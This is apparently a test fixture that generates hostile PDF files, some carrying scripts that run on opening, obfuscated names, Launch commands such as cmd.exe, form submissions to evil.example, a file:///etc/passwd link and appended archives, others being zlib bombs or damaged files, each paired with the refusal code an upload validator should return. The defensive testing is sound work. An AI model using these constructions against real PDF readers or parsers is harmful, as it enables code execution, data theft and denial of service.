import { deflateSync } from 'node:zlib';
import type { RefusalCode } from '../evidence-refused.ts';
import type { HostileFile } from './hostile-file.ts';
import { PLANTED } from './hostile-file.ts';
import { aPackedPdf, onePage } from './packed-pdf.ts';
import { aPdf, buildPdf, deflatedStream, firstExtra, pdfStream } from './pdf-builder.ts';

const js = `<< /S /JavaScript /JS (app.alert\\('${PLANTED}'\\)) >>`;
const extra = `${firstExtra()} 0 R`;
const annotation = (body: string) => ({ page: `/Annots [<< /Type /Annot /Rect [0 0 9 9] ${body} >>]` });
const link = (action: string) => aPdf(annotation(`/Subtype /Link /A << ${action} >>`));

/** Each runs an action, embeds another file or links out of the document. */
function activePdfs(): Record<string, Buffer> {
  return {
    'a script on opening': aPdf({ catalog: `/OpenAction ${js}` }),
    'a script on opening, by reference': aPdf({ catalog: `/OpenAction ${extra}`, more: [js] }),
    'a script by name': aPdf({ catalog: `/Names << /JavaScript << /Names [(a) ${extra}] >> >>`, more: [js] }),
    'a script in escaped letters': aPdf({ catalog: '/OpenAction << /S /J#61vaScr#69pt /JS (1) >>' }),
    'a script with every letter escaped': aPdf({
      catalog: '/OpenAction << /S /#4A#61#76#61#53#63#72#69#70#74 /#4a#53 (1) >>',
    }),
    'a script as a stream': aPdf({
      catalog: `/OpenAction << /S /JavaScript /JS ${extra} >>`,
      more: [deflatedStream('', PLANTED)],
    }),
    'a script of a page': aPdf({ page: `/AA << /O ${js} >>` }),
    'additional actions without a script': aPdf({ catalog: '/AA << /WC << /S /Named /N /Print >> >>' }),
    'a script of a form field': aPdf({
      catalog: `/AcroForm << /Fields [${extra}] >>`,
      more: [`<< /FT /Tx /T (a) /AA << /K ${js} >> >>`],
    }),
    'a bare JS key': aPdf({ catalog: '/OpenAction << /S /GoTo /D [4 0 R /Fit] /JS (1) >>' }),
    'a script after a place': aPdf({ catalog: `/OpenAction << /S /GoTo /D [4 0 R /Fit] /Next ${js} >>` }),
    'an address on opening': aPdf({ catalog: '/OpenAction << /S /URI /URI (https://evil.example) >>' }),
    'a command on opening': aPdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
    'a command on a link': link('/S /Launch /Win << /F (calc.exe) >>'),
    'a command by reference': aPdf({
      ...annotation(`/Subtype /Link /A << /S ${extra} >>`),
      more: ['/Launch'],
    }),
    'a form that is sent': link('/S /SubmitForm /F (https://evil.example)'),
    'data that is fetched': link('/S /ImportData /F (\\\\\\\\evil.example\\\\x)'),
    'another document': link('/S /GoToR /F (\\\\\\\\evil.example\\\\x.pdf) /D [0 /Fit]'),
    'a document within': link('/S /GoToE /T << /R /C /N (x) >>'),
    'a rendition': link('/S /Rendition /OP 0'),
    'a movie': aPdf(annotation('/Subtype /Movie')),
    'a sound': link('/S /Sound'),
    'a 3D scene': aPdf(annotation('/Subtype /3D')),
    'rich media': aPdf(annotation('/Subtype /RichMedia /RichMediaContent << >>')),
    'a file on a page': aPdf(annotation('/Subtype /FileAttachment /FS << /EF << >> >>')),
    'an embedded file': aPdf({
      catalog: `/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F ${extra} >> >>] >> >>`,
      more: [deflatedStream('/Type /EmbeddedFile', PLANTED)],
    }),
    'an embedded file nobody names': aPdf({ more: [deflatedStream('/Type /EmbeddedFile', PLANTED)] }),
    XFA: aPdf({ catalog: `/AcroForm << /XFA ${extra} >>`, more: [deflatedStream('', '<xdp/>')] }),
    'a script nobody uses': aPdf({ more: [js] }),
    'a script inside an object stream': aPackedPdf(onePage(`/OpenAction ${js}`)),
    'a command inside an object stream': aPackedPdf(onePage('/OpenAction << /S /Launch /F (a) >>')),
    'an escaped script inside an object stream': aPackedPdf(
      onePage('/OpenAction << /S /J#61vaScript /JS (1) >>'),
    ),
    'an embedded file inside an object stream': aPackedPdf(
      onePage('/Names << /EmbeddedFiles << /Names [] >> >>'),
    ),
    'XFA inside an object stream': aPackedPdf(onePage('/AcroForm << /XFA [(a) (b)] >>')),
    'a link that is a script': aPdf({
      catalog: '/Extra << /Type /Action /S /URI /URI (javascript:app.alert\\(1\\)) >>',
    }),
    'a link that is a script, in hexadecimal': aPdf({
      catalog: '/Extra << /S /URI /URI <6a6176610a7363726970743a61> >>',
    }),
    'a link into the file system': aPdf({ catalog: '/Extra << /S /URI /URI (file:///etc/passwd) >>' }),
    'a script as the base of its links': aPdf({ catalog: '/URI << /Base (javascript:) >>' }),
    'a link that is a script inside an object stream': aPackedPdf(
      onePage('/Extra << /S /URI /URI ( JavaScript:1) >>'),
    ),
    'actions inside an object stream': aPackedPdf(onePage('/AA << /WC << /S /Named /N /Print >> >>')),
    'a script in an old version': shadowed(),
    'a web page in its head': aPdf({ prologue: `%<html><script>${PLANTED}</script>\n` }),
    'an archive at its end': Buffer.concat([aPdf(), anArchive()]),
    'an archive that ends like a PDF': Buffer.concat([aPdf(), anArchive('\n%%EOF\n')]),
    'a program at its end': Buffer.concat([aPdf(), Buffer.from(`\nMZ${PLANTED}`)]),
  };
}

/** The table leads to the first object 6, a search by number to the second. */
function shadowed(): Buffer {
  const clean = aPdf({ catalog: `/OpenAction ${extra}`, more: [js] });
  const text = clean.toString('latin1');
  const table = text.indexOf('xref\n0');
  const cover = `${firstExtra()} 0 obj\n[4 0 R /Fit]\nendobj\n`;
  const moved = text.slice(0, table) + cover + text.slice(table);
  return Buffer.from(moved.replace(`startxref\n${table}`, `startxref\n${table + cover.length}`), 'latin1');
}

/** An archive of one empty file, with a comment at its end. */
export function anArchive(comment = ''): Buffer {
  const name = Buffer.from('a');
  const local = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(26), name]);
  local.writeUInt16LE(1, 26);
  const entry = Buffer.concat([Buffer.from('PK\x01\x02', 'latin1'), Buffer.alloc(42), name]);
  entry.writeUInt16LE(1, 28);
  const end = Buffer.concat([Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18), Buffer.from(comment)]);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(entry.length, 12);
  end.writeUInt32LE(local.length, 16);
  end.writeUInt16LE(comment.length, 20);
  return Buffer.concat([local, entry, end]);
}

function brokenPdfs(): Record<string, readonly [Buffer, readonly RefusalCode[]]> {
  const good = aPdf();
  const text = good.toString('latin1');
  const change = (from: string | RegExp, to: string) => Buffer.from(text.replace(from, to), 'latin1');
  const bomb = deflateSync(Buffer.alloc(200_000_000));
  const packedBomb = deflateSync(Buffer.concat([Buffer.from('1 0 '), Buffer.alloc(60_000_000, 0x20)]));
  const encryption = '/Encrypt << /Filter /Standard /V 2 /R 3 /O (o) /U (u) /P -44 >> /ID [(a) (a)]';
  return {
    encryption: [aPdf({ trailer: encryption }), ['encrypted']],
    'encryption in escaped letters': [
      aPdf({ trailer: encryption.replace('Encrypt', 'Encr#79pt') }),
      ['encrypted'],
    ],
    'too many pages': [
      aPdf({ pages: Array.from({ length: 501 }, (_, n) => `Page ${n}`) }),
      ['too_many_pages'],
    ],
    'a hundred thousand pages': [manyPages(100_000), ['too_many_pages', 'too_complex']],
    'a lie about its pages': [change('/Count 1', '/Count 100000'), ['too_many_pages', 'damaged']],
    'pages in a circle': [change('/Kids [4 0 R]', '/Kids [2 0 R]'), ['damaged', 'timeout']],
    'a zlib bomb': [aPdf({ more: [pdfStream('/Filter /FlateDecode', bomb)] }), ['too_complex']],
    'a zlib bomb as its text': [bombAsContent(bomb), ['too_complex']],
    'a zlib bomb in a zlib bomb': [
      aPdf({ more: [pdfStream('/Filter [/FlateDecode /FlateDecode]', deflateSync(bomb))] }),
      ['too_complex'],
    ],
    'a zlib bomb as object stream': [
      aPdf({ more: [pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packedBomb)] }),
      ['too_complex'],
    ],
    'a thousand small bombs': [
      aPdf({ more: Array<Buffer>(1_000).fill(deflatedStream('', Buffer.alloc(900_000))) }),
      ['too_complex'],
    ],
    'arrays nested without end': [
      aPdf({ more: ['['.repeat(100_000) + ']'.repeat(100_000)] }),
      ['damaged', 'too_complex'],
    ],
    'dictionaries nested without end': [aPdf({ more: ['<</A'.repeat(50_000)] }), ['damaged', 'too_complex']],
    'a table beside its place': [change(/startxref\n(\d+)/, 'startxref\n7'), ['damaged']],
    'a table beyond the end': [change(/startxref\n(\d+)/, 'startxref\n9999999'), ['damaged']],
    'a table that points to nothing': [change(/\n0000000\d{3} 00000 n/, '\n0000000077 00000 n'), ['damaged']],
    'a table in a circle': [
      change('/Root 1 0 R', `/Root 1 0 R /Prev ${text.indexOf('xref\n0')}`),
      ['damaged'],
    ],
    'no table': [change(/xref\n0[\s\S]*%%EOF/, '%%EOF'), ['damaged']],
    'no root': [change('/Root 1 0 R', '/Root 99 0 R'), ['damaged']],
    'no pages': [buildPdf({ objects: ['<< /Type /Catalog >>'] }), ['damaged']],
    'only its first line': [Buffer.from('%PDF-1.7\n'), ['damaged']],
    'a web page after its first line': [Buffer.from(`%PDF-1.7\n<html>${PLANTED}</html>`), ['active_content']],
    'zeros after its first line': [
      Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(100_000)]),
      ['damaged'],
    ],
    'objects cut off': [change('endobj', 'endob'), ['damaged']],
    'one byte too many': [Buffer.concat([good, Buffer.alloc(25_000_001 - good.length)]), ['too_large']],
  };
}

function manyPages(count: number): Buffer {
  const kids = Array.from({ length: count }, (_, n) => `${n + 3} 0 R`).join(' ');
  const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>';
  return buildPdf({
    objects: [
      '<< /Type /Catalog /Pages 2 0 R >>',
      `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`,
      ...Array<string>(count).fill(page),
    ],
  });
}

function bombAsContent(bomb: Buffer): Buffer {
  return buildPdf({
    objects: [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>',
      pdfStream('/Filter /FlateDecode', bomb),
    ],
  });
}

const file = (what: string, bytes: Buffer, expected: HostileFile['expected']): HostileFile => ({
  what: `PDF with ${what}`,
  fileName: 'statement.pdf',
  declaredType: 'application/pdf',
  bytes,
  expected,
});

export function hostilePdfs(): HostileFile[] {
  return [
    ...Object.entries(activePdfs()).map(([what, bytes]) => file(what, bytes, ['active_content'])),
    ...Object.entries(brokenPdfs()).map(([what, [bytes, codes]]) => file(what, bytes, codes)),
  ];
}
